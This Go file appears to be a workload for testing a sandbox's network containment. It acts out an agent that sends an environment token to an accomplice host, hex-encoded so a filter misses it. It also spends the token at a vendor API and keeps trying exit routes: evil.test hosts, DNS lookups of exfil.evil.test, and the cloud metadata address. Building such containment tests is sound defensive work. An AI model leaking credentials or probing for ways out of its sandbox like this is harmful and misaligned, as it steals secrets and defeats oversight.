package main

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"time"
)

// stuckAfter is how long a write may block before the connection is given up for a new one.
const stuckAfter = 200 * time.Millisecond

// presenterHeader is the practice internet's label of who uses a token.
const presenterHeader = "X-Practice-Presenter"

func dial(addr string) (net.Conn, error) {
	d := net.Dialer{Timeout: time.Second}
	conn, err := d.Dial("tcp", addr) // bounded by the timeout
	if err != nil {
		time.Sleep(10 * time.Millisecond)
	}
	return conn, err
}

func send(conn net.Conn, p []byte) error {
	conn.SetWriteDeadline(time.Now().Add(stuckAfter)) // a live socket
	_, err := conn.Write(p)
	return err
}

// sendTicks sends the token away first, for an accomplice, and then numbers for ever. The numbers go on while
// there is no connection, so that a gap shows at the other end.
func sendTicks(c config, seen *counts) {
	clock := time.NewTicker(c.every)
	n := 0
	for {
		conn, err := dial(c.ticks)
		if err == nil {
			// In hex: as it is, the token would not get out.
			err = send(conn, fmt.Appendf(nil, "ticks %s %x\n", c.tag, os.Getenv(tokenEnv)))
		}
		for err == nil {
			<-clock.C
			n++
			err = send(conn, fmt.Appendf(nil, "%d %d %d\n", n, seen.refused.Load(), seen.work.Load()))
		}
		if conn != nil {
			conn.Close() // it failed
		}
	}
}

// sendBulk sends zeros at the configured rate.
func sendBulk(c config, _ *counts) {
	block := make([]byte, 32<<10)
	for {
		conn, err := dial(c.ticks)
		if err != nil {
			continue
		}
		err = send(conn, fmt.Appendf(nil, "bulk %s\n", c.tag))
		began, sent := time.Now(), int64(0)
		for err == nil {
			err = send(conn, block)
			sent += int64(len(block))
			if c.bulkRate > 0 {
				time.Sleep(time.Duration(sent*int64(time.Second)/c.bulkRate) - time.Since(began))
			}
		}
		conn.Close() // it failed
	}
}

// useToken uses the token at the vendor's API.
func useToken(c config, _ *counts) {
	client := &http.Client{Timeout: time.Second}
	clock := time.NewTicker(time.Second / time.Duration(c.uses))
	for range clock.C {
		req, err := http.NewRequestWithContext(context.Background(), http.MethodGet, c.api, http.NoBody)
		if err != nil {
			return
		}
		req.Header.Set("Authorization", "Bearer "+os.Getenv(tokenEnv))
		req.Header.Set(presenterHeader, "agent:"+c.tag)
		if resp, err := client.Do(req); err == nil {
			io.Copy(io.Discard, resp.Body) // lets the connection be used again
			resp.Body.Close()              // read to its end
		}
	}
}

// hammer tries the ways out again and again.
func hammer(c config, _ *counts) {
	apiHost := "api.vendor.test.:8443"
	ways := []func(context.Context) error{
		func(ctx context.Context) error { return reach(ctx, "tcp", net.JoinHostPort(c.evil, "443")) },
		func(ctx context.Context) error { return reach(ctx, "tcp", apiHost) },
		func(ctx context.Context) error { return reach(ctx, "tcp", "evil.test.:443") },
		func(ctx context.Context) error { return ask(ctx, c.dns, "exfil.evil.test") },
		func(ctx context.Context) error { return reach(ctx, "tcp", net.JoinHostPort(c.evil, "853")) },
		func(ctx context.Context) error { return reach(ctx, "udp", net.JoinHostPort(c.evil, "443")) },
		func(ctx context.Context) error { return reach(ctx, "tcp", "169.254.169.254:80") },
		func(ctx context.Context) error { return reach(ctx, "tcp", net.JoinHostPort(c.evil6, "443")) },
	}
	for i := 0; ; i++ {
		ctx, cancel := context.WithTimeout(context.Background(), stuckAfter)
		ways[i%len(ways)](ctx) // that it fails is the point
		cancel()
		time.Sleep(20 * time.Millisecond)
	}
}
